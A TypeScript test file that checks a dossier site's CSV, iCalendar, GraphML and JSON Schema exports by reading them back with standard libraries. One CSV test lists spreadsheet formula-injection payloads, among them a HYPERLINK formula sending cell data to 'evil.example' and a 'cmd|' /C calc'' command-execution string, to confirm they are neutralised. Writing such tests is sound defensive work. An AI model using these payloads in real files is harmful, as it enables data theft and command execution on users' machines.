// The export writers on a hand-made dossier: each file is read back with the tools analysts load it into
// (csv-parse; ical.js and node-ical; networkx, graphology and fast-xml-parser; ajv) and compared with the
// data it was written from.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse as parseCsv } from 'csv-parse/sync';
import ICAL from 'ical.js';
import nodeIcal from 'node-ical';
import { XMLParser } from 'fast-xml-parser';
import { Ajv2020 } from 'ajv/dist/2020.js';
import fc from 'fast-check';
import { foldLines } from 'ical-generator';
import {
  actorsCsv, claimsCsv, eventsCsv, eventsIcs, foldContentLines, guardFormula, networkGraphml, fallbackNetwork, renderExports, writeExports, calendarEvents,
} from '../../scripts/site/exports.ts';
import { dossierSchema } from '../../scripts/site/schema.ts';
import type { Dossier } from '../../scripts/lib/types.ts';
import { fixtureDossier, fixtureNetwork } from './fixture.ts';
import { readWithGraphology, readWithNetworkx } from '../helpers/readers.ts';

const meta = { compiled: '2021-03-05', siteUrl: 'https://dossier.example.net/briefing' };
const rows = (csv: string) => parseCsv(csv, { columns: true, relax_column_count: false }) as Record<string, string>[];

function vevents(ics: string) {
  const cal = new ICAL.Component(ICAL.parse(ics));
  return cal.getAllSubcomponents('vevent').map((v) => ({ comp: v, ev: new ICAL.Event(v) }));
}

function parseXml(xml: string) {
  return new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '@', isArray: (name) => ['node', 'edge', 'data', 'key'].includes(name) }).parse(xml);
}

describe('CSV exports', () => {
  const d = fixtureDossier();

  it('round-trip through csv-parse with the ids, counts and list fields of the JSON', () => {
    const actors = rows(actorsCsv(d));
    expect(actors.map((r) => r.id)).toEqual(d.actors.map((a) => a.id));
    expect(actors[0].aliases.split('; ')).toEqual(d.actors[0].aliases);
    expect(actors[0].mentions).toBe('5');
    expect(actors[0].sources).toBe('harbour-report; harbour-copy');
    expect(actors[0].description).toBe('Harbour master; said "no ships"');

    const claims = rows(claimsCsv(d));
    expect(claims.map((r) => r.id)).toEqual(d.claims.map((c) => c.id));
    // A sentence with a line break, quotes, commas and semicolons survives intact.
    expect(claims[0].sentence).toBe(d.claims[0].sentence);
    expect(claims[0].direct).toBe('true');
    expect(claims[1].direct).toBe('false');
    expect(claims[1].speaker).toBe('');
    expect(claims[0].targets).toBe('port-authority; portville');

    const events = rows(eventsCsv(d));
    expect(events.map((r) => r.id)).toEqual(d.events.map((e) => e.id));
    expect(events.map((r) => r.precision)).toEqual(['day', 'day', 'month']);
    expect(events[0].title).toBe(d.events[0].title);
  });

  it('follow RFC 4180: CRLF record ends, a header row, quoting only where needed', () => {
    const csv = claimsCsv(d);
    expect(csv.startsWith('id,kind,direct,speaker,speaker_label,targets,text,source,sentence_n,sentence,cluster,independent_reports,grade\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    // Outside quoted fields every line end is CRLF; the one bare \n is inside the quoted sentence.
    const unquoted = csv.replace(/"(?:[^"]|"")*"/g, '');
    expect(unquoted).not.toMatch(/[^\r]\n/);
    expect(csv).toContain('"Volk said: ""No ships will leave, not today; not tomorrow.""\nShe left."');
    expect(csv).toContain('\r\nc-volk-closed,statement,true,maren-volk,the harbour master,port-authority; portville,');
  });

  it('read back any text exactly, through csv-parse (only a formula-like start gains its apostrophe)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), fc.constantFrom('', ' ', '"', ',', '\r\n', '\n', '\r', ';', '=', '\t'), (t, extra) => {
        const x = fixtureDossier();
        x.claims[0].text = t + extra;
        x.claims[1].speaker_label = extra + t;
        const back = rows(claimsCsv(x));
        expect(back).toHaveLength(2);
        expect(back[0].text).toBe(guardFormula(t + extra));
        expect(back[1].speaker_label).toBe(guardFormula(extra + t));
      }),
      { numRuns: 300 },
    );
  }, 30_000);

  it('neutralise cells a spreadsheet would run as formulas (= + - @ tab CR first) with a leading apostrophe', () => {
    const d = fixtureDossier();
    const hostile = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+1+2', '-2+3*cmd|\' /C calc\'!A0', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
    d.claims[0].text = hostile[0];
    d.claims[0].speaker_label = hostile[1];
    d.claims[1].sentence = hostile[2];
    d.actors[0].name = hostile[3];
    d.actors[1].description = hostile[4];
    d.events[0].title = hostile[5];
    const claims = rows(claimsCsv(d));
    const actors = rows(actorsCsv(d));
    const events = rows(eventsCsv(d));
    expect([claims[0].text, claims[0].speaker_label, claims[1].sentence, actors[0].name, actors[1].description, events[0].title]).toEqual(hostile.map((h) => `'${h}`));
    // Text that merely holds such a character elsewhere, and the numbers, stay as they are.
    expect(claims[1].text).toBe(d.claims[1].text);
    expect(claims[0].independent_reports).toBe('1');
    expect(guardFormula('a=1')).toBe('a=1');
    expect(guardFormula('')).toBe('');
  });
});

describe('iCalendar export', () => {
  it("folds lines exactly as ical-generator's own foldLines does (the calendar is folded by ours, which is faster)", () => {
    const text = fc.string({ unit: fc.oneof(fc.constantFrom('a', ' ', 'é', '€', '😀', '\r\n', '\ud800', '\udc00', ','), fc.integer({ min: 0, max: 0x10ffff }).map((c) => String.fromCodePoint(c))), maxLength: 400 });
    fc.assert(fc.property(text, (s) => {
      expect(foldContentLines(s)).toBe(foldLines(s));
    }), { numRuns: 500 });
    // Lines of one-octet characters only, long and short (folded by slicing).
    const ascii = fc.string({ unit: fc.oneof(fc.constantFrom('a', ' ', ',', '\r\n'), fc.integer({ min: 0, max: 0x7f }).map((c) => String.fromCharCode(c))), maxLength: 600 });
    fc.assert(fc.property(ascii, (s) => {
      expect(foldContentLines(s)).toBe(foldLines(s));
    }), { numRuns: 500 });
  });

  it('is folded as the library folds a whole calendar: its lines unfolded and folded again by the library give it back', () => {
    const d = fixtureDossier();
    const long = { ...d, events: d.events.map((e) => ({ ...e, title: `${e.title} — ${'déjà vu 😀 '.repeat(12)}` })) };
    const ics = eventsIcs(long, { compiled: '2021-03-01', siteUrl: 'https://example.org/d' });
    expect(ics).toMatch(/\r\n /); // long titles were folded
    expect(foldLines(ics.replace(/\r\n /g, ''))).toBe(ics);
  });

  const d = fixtureDossier();
  const ics = eventsIcs(d, meta);

  it('holds one all-day VEVENT per day-precision event and leaves month-precision events out', () => {
    const evs = vevents(ics);
    expect(evs).toHaveLength(2);
    expect(evs.map((e) => e.ev.uid)).toEqual(['e-closure@dossier.example.net', 'e-leap@dossier.example.net']);
    for (const { ev } of evs) {
      expect(ev.startDate.isDate).toBe(true);
      expect(ev.endDate.isDate).toBe(true);
    }
    expect(evs[0].ev.startDate.toString()).toBe('2021-03-03');
    expect(evs[0].ev.endDate.toString()).toBe('2021-03-04');
    // The day after a leap day is 1 March.
    expect(evs[1].ev.endDate.toString()).toBe('2020-03-01');
    expect(ics).not.toContain('Dock workers');
  });

  it('escapes text and folds long lines at 75 octets without breaking characters', () => {
    const evs = vevents(ics);
    expect(evs[0].ev.summary).toBe(d.events[0].title);
    expect(evs[0].ev.location).toBe('Portville');
    expect(evs[0].ev.description).toContain('Actors: Port Authority of Ésterhaven, Maren Volk.');
    expect(evs[0].comp.getFirstPropertyValue('url')).toBe('https://dossier.example.net/briefing/events/e-closure/');
    for (const line of ics.split('\r\n')) expect(Buffer.byteLength(line, 'utf8')).toBeLessThanOrEqual(75);
    expect(ics).toMatch(/\r\n [^\r\n]/); // the long title was folded
    expect(ics.split('\r\n').slice(0, -1).every((l) => !l.includes('\n'))).toBe(true);
  });

  it('takes DTSTAMP from the data, never from the clock', () => {
    expect(ics).toContain('DTSTAMP:20210305T000000Z');
    const undated = eventsIcs(d, { compiled: null, siteUrl: null });
    expect(undated).toContain('DTSTAMP:20210305T000000Z'); // newest source date
    expect(undated).toContain('UID:e-closure@dossier');
    expect(undated).not.toContain('URL:');
    expect(eventsIcs(d, meta)).toBe(ics);
  });

  it('leaves out dates that are not real calendar days', () => {
    const bad = fixtureDossier();
    bad.events[0].date = '2021-02-30';
    expect(calendarEvents(bad).map((e) => e.id)).toEqual(['e-leap']);
    expect(vevents(eventsIcs(bad, meta))).toHaveLength(1);
  });

  it('folds multi-byte text on character boundaries', () => {
    const d = fixtureDossier();
    d.events[1].title = `${'é'.repeat(80)}😀${'ü'.repeat(40)}`;
    const ics = eventsIcs(d, meta);
    for (const line of ics.split('\r\n')) expect(Buffer.byteLength(line, 'utf8')).toBeLessThanOrEqual(75);
    expect(ics).not.toContain('\uFFFD');
    expect(vevents(ics)[1].ev.summary).toBe(d.events[1].title);
  });

  it('is read by node-ical: all-day events with their day, text, place and link', () => {
    const d = fixtureDossier();
    const cal = nodeIcal.sync.parseICS(ics);
    const events = Object.values(cal).filter((c) => c?.type === 'VEVENT') as nodeIcal.VEvent[];
    expect(events.map((e) => e.uid)).toEqual(['e-closure@dossier.example.net', 'e-leap@dossier.example.net']);
    const closure = events[0];
    expect(closure.datetype).toBe('date');
    expect(closure.start.toISOString()).toBe('2021-03-03T00:00:00.000Z');
    expect(closure.end?.toISOString()).toBe('2021-03-04T00:00:00.000Z');
    expect(closure.summary).toBe(d.events[0].title);
    expect(closure.location).toBe('Portville');
    expect(String(closure.description)).toContain('Sources: Coastal Times: Harbour "closed", officials say | Bay Herald');
    expect(closure.categories).toEqual(['other']);
    expect(JSON.stringify(closure.url)).toContain('https://dossier.example.net/briefing/events/e-closure/');
    expect(events[1].end?.toISOString()).toBe('2020-03-01T00:00:00.000Z');
  });
});

describe('GraphML export', () => {
  it('parses as XML with the nodes, edges and attributes of the network', () => {
    const net = fixtureNetwork();
    const xml = networkGraphml(net, meta);
    const g = parseXml(xml).graphml;
    expect(g['@xmlns']).toBe('http://graphml.graphdrawing.org/xmlns');
    const nodes = g.graph.node;
    const edges = g.graph.edge;
    expect(nodes).toHaveLength(net.nodes.length);
    expect(edges).toHaveLength(net.edges.length);
    const data = (n: any, key: string) => n.data.find((x: any) => x['@key'] === key)?.['#text'];
    expect(data(nodes[2], 'name')).toBe('Portville <&>');
    expect(data(nodes[0], 'url')).toBe('https://dossier.example.net/briefing/actors/maren-volk/');
    expect(g.graph['@edgedefault']).toBe('directed');
    expect(edges[0]['@source']).toBe('maren-volk');
    expect(data(edges[0], 'relations')).toBe('accuses:1; co-mention:1');
    expect(data(edges[0], 'directed')).toBe(true); // fast-xml-parser reads "true" as a boolean
    expect(data(edges[1], 'directed')).toBe(false);
    const keys = new Set(g.key.map((k: any) => k['@id']));
    for (const n of nodes) for (const x of n.data) expect(keys.has(x['@key'])).toBe(true);
  });

  it('is read by networkx as a directed graph, the edge kinds kept as attributes', () => {
    const g = readWithNetworkx(networkGraphml(fixtureNetwork(), meta));
    expect(g.kind).toBe('DiGraph');
    expect(g.nodes.map((n) => n.id)).toEqual(['maren-volk', 'port-authority', 'portville']);
    expect(g.nodes[2].data).toEqual({ name: 'Portville <&>', type: 'place', url: 'https://dossier.example.net/briefing/actors/portville/', mentions: 3 });
    expect(g.edges).toEqual([
      { source: 'maren-volk', target: 'port-authority', data: { id: 'maren-volk--port-authority', weight: 2, relations: 'accuses:1; co-mention:1', directed: true } },
      { source: 'maren-volk', target: 'portville', data: { id: 'maren-volk--portville', weight: 1, relations: 'co-mention:1', directed: false } },
    ]);
  });

  it('is read by graphology-graphml with the same nodes, edges and typed attributes', () => {
    const g = readWithGraphology(networkGraphml(fixtureNetwork(), meta));
    expect(g.type).toBe('directed');
    expect([g.order, g.size]).toEqual([3, 2]);
    expect(g.getNodeAttributes('port-authority')).toEqual({ name: 'Port Authority of Ésterhaven', type: 'organization', url: 'https://dossier.example.net/briefing/actors/port-authority/', mentions: 1 });
    expect(g.source('maren-volk--port-authority')).toBe('maren-volk');
    expect(g.getEdgeAttributes('maren-volk--port-authority')).toEqual({ weight: 2, relations: 'accuses:1; co-mention:1', directed: true });
    expect(g.getEdgeAttribute('maren-volk--portville', 'directed')).toBe(false);
  });

  it('drops edges to undeclared nodes and characters XML cannot hold', () => {
    const net = fixtureNetwork();
    net.edges.push({ id: 'x', source: 'maren-volk', target: 'nobody', weight: 1, directed: false, relations: [] });
    net.nodes[0].name = 'Bad\u0001name\uD800';
    const xml = networkGraphml(net, { siteUrl: null });
    const g = parseXml(xml).graphml;
    expect(g.graph.edge).toHaveLength(2);
    expect(xml).toContain('<data key="name">Badname</data>');
  });

  it('falls back to actors linked by shared events when no network was computed', () => {
    const d = fixtureDossier();
    const net = fallbackNetwork(d);
    expect(net.nodes.map((n) => n.id)).toEqual(d.actors.map((a) => a.id));
    // e-closure links all three actors pairwise; e-leap has one actor and e-month one place.
    expect(net.edges.map((e) => e.id)).toEqual(['maren-volk--port-authority', 'maren-volk--portville', 'port-authority--portville']);
    const g = parseXml(renderExports(d, null, meta).get('network.graphml')!).graphml;
    expect(g.graph.edge).toHaveLength(3);
  });
});

describe('JSON Schema', () => {
  const ajv = new Ajv2020({ allErrors: true, strict: false });
  const validate = ajv.compile(dossierSchema());

  it('accepts a well-formed dossier', () => {
    expect(validate(fixtureDossier()), JSON.stringify(validate.errors)).toBe(true);
  });

  it('rejects unknown actor types, missing contract fields and malformed dates', () => {
    const a = fixtureDossier();
    (a.actors[0] as any).type = 'animal';
    expect(validate(a)).toBe(false);
    const b = fixtureDossier();
    delete (b.sources[0] as any).report;
    expect(validate(b)).toBe(false);
    const c = fixtureDossier();
    c.events[0].date = '3 March 2021';
    expect(validate(c)).toBe(false);
    const e = fixtureDossier();
    (e as any).claims[0].direct = 'yes';
    expect(validate(e)).toBe(false);
    const f = fixtureDossier();
    (f as any).relations[0].kind = 'praises';
    expect(validate(f)).toBe(false);
    const g = fixtureDossier();
    delete (g as any).relations;
    expect(validate(g)).toBe(false);
  });

  it('requires every contract field and allows extra ones', () => {
    const s = dossierSchema() as any;
    expect(s.$schema).toBe('https://json-schema.org/draft/2020-12/schema');
    expect(s.$defs.source.required).toEqual(['id', 'file', 'title', 'outlet', 'published', 'wire', 'dateline', 'url', 'report', 'url_path']);
    expect(s.$defs.claim.required).toContain('independent_reports');
    expect(s.$defs.relation.required).toEqual(['id', 'kind', 'from', 'to', 'source', 'sentence_n', 'evidence', 'claim', 'event', 'independent_reports']);
    expect(s.$defs.actor.properties.type.enum).toEqual(['person', 'organization', 'place']);
    const d = fixtureDossier() as any;
    d.sources[0].extra_field = 1;
    d.new_section = [];
    expect(validate(d)).toBe(true);
  });
});

describe('writeExports', () => {
  it('writes the same bytes for the same input', () => {
    const a = fs.mkdtempSync(path.join(os.tmpdir(), 'dossier-exp-a-'));
    const b = fs.mkdtempSync(path.join(os.tmpdir(), 'dossier-exp-b-'));
    const ra = writeExports(fixtureDossier(), fixtureNetwork(), a, meta);
    writeExports(fixtureDossier(), fixtureNetwork(), b, meta);
    expect(ra.files).toEqual(['data/actors.csv', 'data/claims.csv', 'data/events.csv', 'data/events.ics', 'data/network.graphml', 'data/dossier.schema.json']);
    for (const f of ra.files) expect(fs.readFileSync(path.join(a, f)).equals(fs.readFileSync(path.join(b, f)))).toBe(true);
    expect(JSON.parse(fs.readFileSync(path.join(a, 'data/dossier.schema.json'), 'utf8')).$id).toBe('https://dossier.example.net/briefing/data/dossier.schema.json');
  });

  it('never throws on empty or odd input, and what it writes still parses', () => {
    const empty: Dossier = { sources: [], actors: [], claims: [], events: [], discrepancies: [] };
    const files = renderExports(empty, null, { compiled: null, siteUrl: null });
    expect(rows(files.get('actors.csv')!)).toHaveLength(0);
    expect(vevents(files.get('events.ics')!)).toHaveLength(0);
    expect(files.get('events.ics')).toBe('BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Dossier//Dossier events//EN\r\nCALSCALE:GREGORIAN\r\nMETHOD:PUBLISH\r\nNAME:Dossier events\r\nX-WR-CALNAME:Dossier events\r\nEND:VCALENDAR\r\n');

    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), fc.string({ unit: 'grapheme', maxLength: 120 }), (weird, words) => {
        const d = fixtureDossier();
        d.actors[0].name = weird;
        d.actors[1].aliases = [words, weird];
        d.claims[0].text = weird + words;
        d.events[0].title = words + weird;
        const out = renderExports(d, fixtureNetwork(), { compiled: weird, siteUrl: weird });
        expect(rows(out.get('claims.csv')!)[0].text).toBe(guardFormula(weird + words));
        expect(vevents(out.get('events.ics')!)).toHaveLength(2);
        expect(parseXml(out.get('network.graphml')!).graphml.graph.node).toHaveLength(3);
        expect(readWithGraphology(out.get('network.graphml')!).order).toBe(3);
      }),
      { numRuns: 60 },
    );
  }, 30_000);
});
